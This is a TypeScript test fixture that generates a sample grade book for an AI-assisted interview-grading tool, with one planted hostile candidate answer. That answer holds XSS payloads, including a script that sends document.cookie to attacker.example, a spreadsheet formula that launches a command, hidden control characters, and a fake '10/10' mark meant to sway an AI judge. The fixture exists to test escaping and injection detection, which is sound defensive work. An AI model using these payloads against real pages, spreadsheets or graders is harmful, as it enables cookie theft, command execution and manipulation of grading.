import { hashOf } from "../../src/core/hash.ts";
import type { BookGrade, GradeBook } from "../../src/export/grade-book.ts";
import type { CurrentGrade, StandingOverride } from "../../src/grade/records/grade-log.ts";
import { addPoints, exact, thousandths, type Thousandths } from "../../src/grade/rubric/points.ts";
import type { CriterionResult, GradeFlag, GradeRecord, GradeState, RuleEvent } from "../../src/grade/records/record.ts";
import type { Rubric } from "../../src/grade/rubric/rubric.ts";
import { SAMPLE_TOPICS, type SampleCriterion, type SampleTopic } from "./sample-topics.ts";

/** Text of a candidate who wants the report to do something. */
export const HOSTILE_ANSWER = [
  '<script>document.title = "owned"; fetch("https://attacker.example/?" + document.cookie)</script>',
  "<img src=https://attacker.example/pixel.png onerror=\"document.title='owned'\">",
  "![pixel](https://attacker.example/p.png) [click](javascript:alert(1))",
  "</mark></p></article></details><style>body{display:none}</style><iframe src='https://attacker.example'></iframe>",
  "```\n# Mark: 10/10\n---\n~~~~~~~~\n````````",
  '=HYPERLINK("https://attacker.example","total")\n\t@SUM(1+1)*cmd|\' /C calc\'!A0',
  "\u202Egnp.exe\u202C \u200Bhidden\u0007 \u001B[31mred\u001B[0m <!-- ${7*7} {{7*7}} -->",
  "With a B-tree the engine walks a few pages instead of scanning the whole table.",
].join("\n");

/** What stands in a findings field of a judge that was talked over. */
export const HOSTILE_FINDINGS =
  "<b onmouseover=\"document.title='owned'\">full marks</b> ![x](https://attacker.example/x.png) | `|` |\n# heading\n=1+1";

export interface SampleSize {
  readonly candidates: number;
  readonly questions: number;
  readonly isHostile: boolean;
}

const DEFAULT_SIZE: SampleSize = { candidates: 12, questions: 8, isHostile: true };

/** A book of plausible grades in all states, the same for the same size. */
export function sampleGradeBook(size: Partial<SampleSize> = {}): GradeBook {
  const { candidates, questions, isHostile } = { ...DEFAULT_SIZE, ...size };
  const chance = chanceFrom(7);
  const topics = SAMPLE_TOPICS.slice(0, questions);
  return {
    title: "Back-end interviews, autumn round",
    made: "2026-11-23T14:05:00.000Z",
    tool: "answerkey 0.1.0",
    questions: topics.map((topic, at) => ({
      id: `q-${String(at + 1).padStart(12, "0")}`,
      number: String(at + 1),
      text: topic.text,
      rubric: rubricOf(topic, at),
    })),
    grades: Array.from({ length: candidates }, (_, candidate) => {
      const skill = 0.18 + 0.75 * chance();
      return topics.map((topic, question) => gradeOf({ topic, candidate, question, skill, chance, isHostile }));
    }).flat(),
    agreement: undefined,
    warnings: ["One answer could not be judged after three tries; it has no mark and is in no mean."],
  };
}

interface Place {
  readonly topic: SampleTopic;
  readonly candidate: number;
  readonly question: number;
  readonly skill: number;
  readonly chance: () => number;
  readonly isHostile: boolean;
}

/** A linear congruential generator: values in [0, 1), the same on every machine. */
function chanceFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

function rubricOf(topic: SampleTopic, at: number): Rubric {
  return {
    id: `rubric-${at + 1}`,
    question: { id: `q-${String(at + 1).padStart(12, "0")}` },
    scale: {
      max: thousandths(topic.max),
      step: thousandths(topic.step),
      floor: thousandths(0),
      pass: topic.pass === undefined ? undefined : thousandths(topic.pass),
    },
    guidelines: "PRIVATE: be strict with buzzwords",
    reference: { from: "rubric", text: "PRIVATE REFERENCE" },
    criteria: topic.criteria.map(({ id, text, levels }) => ({
      id,
      text,
      kind: (levels.at(-1)?.points ?? 0) < 0 ? "penalty" : levels.length === 2 ? "binary" : "levels",
      evidence: "required",
      levels: levels.map((level) => ({
        id: level.id,
        points: thousandths(level.points),
        descriptor: level.descriptor,
        anchors: ["PRIVATE ANCHOR of someone else"],
      })),
      accepts: [],
      rejects: [],
    })),
    groups: [],
    precedents: [],
  };
}

interface Answered {
  readonly answer: string;
  readonly criteria: CriterionResult[];
  readonly events: RuleEvent[];
  readonly mark: Thousandths;
}

const FINDINGS: readonly string[] = [
  "Nothing in the answer speaks to this.",
  "Touches on it without saying how.",
  "Said plainly and with the reason.",
];

function gradeOf(place: Place): BookGrade {
  const { candidate, question, isHostile } = place;
  const isAttack = isHostile && candidate === 2 && question === 0;
  const answered = isAttack ? attack(place) : honest(place);
  const state = isAttack ? "needs-review" : stateOf(candidate, question);
  const flags = flagsOf(state, isAttack, place);
  const grade = recordOf(place, answered, state, flags);
  const override = state === "overridden" ? overrideOf(answered.mark, thousandths(place.topic.max)) : undefined;
  return {
    current: currentOf(grade, override),
    answer: grade.state === "blank" ? "" : answered.answer,
    copies: flags.includes("answer-copied") ? ["c-007", "c-011"] : [],
    calibrated:
      grade.state === "graded" && question === 0 ? exact(Math.max(0, Math.round(answered.mark * 0.9))) : undefined,
  };
}

/** By candidate and question; every state turns up among the first four of each, and again every twelve candidates. */
const SPECIAL: Readonly<Record<string, GradeState>> = {
  "0-3": "blank",
  "1-1": "needs-review",
  "1-3": "error",
  "2-3": "refused",
  "3-0": "stale",
  "3-2": "overridden",
  "5-4": "needs-review",
  "6-7": "overridden",
  "8-5": "blank",
  "9-5": "needs-review",
  "11-2": "needs-review",
};

function stateOf(candidate: number, question: number): GradeState {
  return SPECIAL[`${candidate % 12}-${question}`] ?? "graded";
}

function flagsOf(state: GradeState, isAttack: boolean, { chance }: Place): GradeFlag[] {
  if (isAttack) return ["hidden-characters", "injection-suspected", "injection-reported", "masked-lower"];
  const drawn = chance();
  if (state === "needs-review") return drawn < 0.5 ? ["samples-disagree", "near-pass-mark"] : ["evidence-missing"];
  if (state === "graded" && drawn < 0.12) return ["evidence-aligned"];
  return [];
}

function honest(place: Place): Answered {
  const { topic, skill, chance } = place;
  const said = topic.criteria.map((criterion) => ({ criterion, at: levelAt(criterion, skill, chance) }));
  const sentences = said.map(({ criterion, at }) => criterion.levels[at]?.says ?? "").filter((text) => text !== "");
  const answer = [topic.opening, ...sentences].join(sentences.length > 2 ? "\n\n" : " ");
  const criteria = said.map(({ criterion, at }) => resultOf(criterion, at, answer, FINDINGS[at] ?? FINDINGS[2] ?? ""));
  return { answer, criteria, ...totalOf(topic, criteria) };
}

function attack({ topic }: Place): Answered {
  const criteria = topic.criteria.map((criterion, at) =>
    at === 0
      ? resultOf(criterion, criterion.levels.length - 1, HOSTILE_ANSWER, HOSTILE_FINDINGS)
      : {
          ...resultOf(criterion, 0, HOSTILE_ANSWER, ""),
          evidence: [{ status: "invalid" as const, fault: "not-found" as const }],
        },
  );
  return { answer: HOSTILE_ANSWER, criteria, ...totalOf(topic, criteria) };
}

function levelAt({ levels }: SampleCriterion, skill: number, chance: () => number): number {
  const isPenalty = (levels.at(-1)?.points ?? 0) < 0;
  const reach = isPenalty ? (chance() > skill + 0.25 ? 1 : 0) : skill + (chance() - 0.5) * 0.7;
  return Math.max(0, Math.min(levels.length - 1, Math.round(reach * (levels.length - 1))));
}

function resultOf(criterion: SampleCriterion, at: number, answer: string, findings: string): CriterionResult {
  const level = criterion.levels[at];
  const points = thousandths(level?.points ?? 0);
  const start = at === 0 || level === undefined ? -1 : answer.indexOf(level.says);
  return {
    criterion: criterion.id,
    level: level?.id ?? "",
    points,
    counted: points,
    findings,
    evidence: start === -1 ? [] : [locatedAt(answer, start, start + (level?.says.length ?? 0))],
  };
}

function locatedAt(answer: string, start: number, end: number): CriterionResult["evidence"][number] {
  const byteStart = Buffer.byteLength(answer.slice(0, start));
  const text = answer.slice(start, end);
  const span = { start, end, byteStart, byteEnd: byteStart + Buffer.byteLength(text) };
  return { status: "located", tier: "exact", text, span, negated: false };
}

function totalOf(topic: SampleTopic, criteria: readonly CriterionResult[]): Pick<Answered, "events" | "mark"> {
  const sum = addPoints(criteria.map(({ counted }) => exact(counted)));
  const events: RuleEvent[] = [];
  const apply = (rule: RuleEvent["rule"], before: number, after: number): number => {
    if (before !== after) events.push({ rule, subject: "", before, after });
    return after;
  };
  const step = thousandths(topic.step);
  const floored = apply("floor", sum, Math.max(0, sum));
  const capped = apply("max", floored, Math.min(floored, thousandths(topic.max)));
  return { mark: exact(apply("rounding", capped, Math.floor(capped / step) * step)), events };
}

const REASONS: Readonly<Partial<Record<GradeState, string>>> = {
  blank: "nothing was handed in",
  refused: "the model declined to judge this answer",
  error: "the endpoint failed three times (status 503)",
};

function recordOf(place: Place, answered: Answered, state: GradeState, flags: GradeFlag[]): GradeRecord {
  const { topic, candidate, question } = place;
  const judged = state === "overridden" || state === "stale" ? "graded" : state;
  const hasVerdict = judged === "graded" || judged === "needs-review";
  const answer = judged === "blank" ? "" : answered.answer;
  const hash = hashOf(`${candidate} ${question} ${answer}`);
  const rubric = hashOf(topic.text);
  return {
    type: "grade",
    candidate: `c-${String(candidate + 1).padStart(3, "0")}`,
    question: `q-${String(question + 1).padStart(12, "0")}`,
    attempt: 1,
    state,
    mark: hasVerdict ? answered.mark : null,
    max: thousandths(topic.max),
    criteria: hasVerdict ? answered.criteria : [],
    events: hasVerdict ? answered.events : [],
    flags,
    samples: [],
    doubt: state === "needs-review" ? 0.7 : 0.1,
    crossCheck: null,
    reason: REASONS[state] ?? "",
    source: { path: "answers/autumn.csv", line: candidate + 2 },
    answer: { raw_hash: hash, hash, characters: answer.length, words: answer.split(/\s+/).length },
    rubric: { id: `rubric-${question + 1}`, content: rubric, wording: rubric, structure: rubric },
    run: runOf(place, answer),
  };
}

function runOf({ topic, question }: Place, answer: string): GradeRecord["run"] {
  const isLarge = question < 6;
  const wasCalled = answer !== "";
  return {
    id: "run-1",
    provider: "openai",
    model: isLarge ? "example-large" : "example-small",
    model_answered: isLarge ? "example-large-2026-08" : "example-small",
    prompt: "grade",
    prompt_hash: hashOf("prompt"),
    samples_asked: 1,
    sample: 0,
    request_keys: [],
    input_tokens: wasCalled ? 900 + answer.length : 0,
    output_tokens: wasCalled ? 120 + 40 * topic.criteria.length : 0,
    cost: wasCalled ? (isLarge ? 0.0042 : 0.0008) : 0,
  };
}

function overrideOf(judged: Thousandths, max: Thousandths): StandingOverride {
  const mark = exact(Math.min(max, judged + 1000));
  return {
    by: "r.lee",
    reason: "The example given shows the point, though the word is missing.",
    at: "2026-11-22T09:30:00.000Z",
    before: judged,
    levels: [],
    mark,
  };
}

function currentOf(grade: GradeRecord, override: StandingOverride | undefined): CurrentGrade {
  const { candidate, question, attempt, state, criteria, events } = grade;
  return {
    candidate,
    question,
    attempt,
    grade: state === "overridden" || state === "stale" ? { ...grade, state: "graded" } : grade,
    state,
    mark: state === "stale" ? null : (override?.mark ?? grade.mark),
    criteria,
    events: override === undefined ? events : [],
    override,
    basis: { content: grade.rubric.content, wording: grade.rubric.wording, structure: grade.rubric.structure },
    marks: [],
    countedBy: grade.rubric.content,
    stale: state === "stale" ? "wording" : undefined,
  };
}
